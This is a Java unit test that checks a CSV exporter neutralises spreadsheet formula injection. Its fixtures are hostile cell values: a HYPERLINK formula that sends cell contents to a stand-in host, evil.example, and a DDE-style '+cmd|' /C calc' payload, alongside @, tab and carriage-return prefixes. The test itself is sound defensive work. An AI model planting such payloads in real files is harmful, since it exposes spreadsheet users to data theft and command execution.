package dev.margin.export;

import dev.margin.domain.AnchorState;
import dev.margin.domain.Annotation;
import dev.margin.domain.Highlight;
import dev.margin.domain.AnnotationKind;
import dev.margin.domain.Article;
import dev.margin.domain.ContentHash;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/** Cells a spreadsheet would run as a formula are written as text, with and without the byte order mark. */
class CsvInjectionTest {
    private static final String TEXT = "-5 degrees at dawn, the forecast said.\n=1+1 is what the sign read.";
    private static final Instant NOW = Instant.parse("2026-11-21T09:15:30Z");

    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void cellsStartingWithAFormulaCharacterGetAnApostrophe(boolean byteOrderMark) throws IOException {
        Article article = new Article(1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "", "@SUM(A1:A9)",
                "https://news.example.org/a", null, NOW, "en", TEXT, List.of(), ContentHash.of(TEXT), 1);
        Annotation minus = annotation(1, TEXT, "-5 degrees", "+cmd|' /C calc'!A0", List.of("\tindented", "fine"));
        Annotation equals = annotation(2, TEXT, "=1+1", "\r=2+2", List.of("@tag"));
        Annotation plain = annotation(3, TEXT, "the forecast said", "A note - with a dash inside", List.of());
        ExportBundle bundle = new ExportBundle(List.of(article), List.of(), List.of(minus, equals, plain),
                new ExportInfo("Margin", "test", "", NOW));

        List<CSVRecord> rows = parse(bundle, byteOrderMark);

        CSVRecord first = row(rows, 1);
        assertThat(first.get("article_title")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        assertThat(first.get("article_outlet")).isEqualTo("'@SUM(A1:A9)");
        assertThat(first.get("exact")).isEqualTo("'-5 degrees");
        assertThat(first.get("note")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(first.get("tags")).isEqualTo("'\tindented; fine");
        assertThat(first.get("start")).isEqualTo("0");
        CSVRecord second = row(rows, 2);
        assertThat(second.get("exact")).isEqualTo("'=1+1");
        assertThat(second.get("note")).isEqualTo("'\r=2+2");
        assertThat(second.get("tags")).isEqualTo("'@tag");
        CSVRecord third = row(rows, 3);
        assertThat(third.get("exact")).isEqualTo("the forecast said");
        assertThat(third.get("note")).isEqualTo("A note - with a dash inside");
        assertThat(third.get("article_url")).isEqualTo("https://news.example.org/a");
        for (CSVRecord row : rows) {
            for (String cell : row.values()) {
                assertThat(cell).as("no cell a spreadsheet would evaluate").doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    private static CSVRecord row(List<CSVRecord> rows, int number) {
        return rows.stream().filter(row -> row.get("annotation_id").endsWith("00" + number)).findFirst().orElseThrow();
    }

    private static Annotation annotation(int number, String text, String exact, String note, List<String> tags) {
        return new Annotation(UUID.fromString("00000000-0000-4000-8000-00000000000" + number), 1, 1, ExportFixtures.anchor(text, exact), AnchorState.OK, Highlight.INSTANCE, note, tags,
                null, NOW, NOW);
    }

    private static List<CSVRecord> parse(ExportBundle bundle, boolean byteOrderMark) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new CsvExporter(byteOrderMark).write(bundle, out);
        String csv = out.toString(StandardCharsets.UTF_8);
        assertThat(csv.startsWith("\uFEFF")).isEqualTo(byteOrderMark);
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(byteOrderMark ? csv.substring(1) : csv))) {
            return parser.getRecords();
        }
    }
}
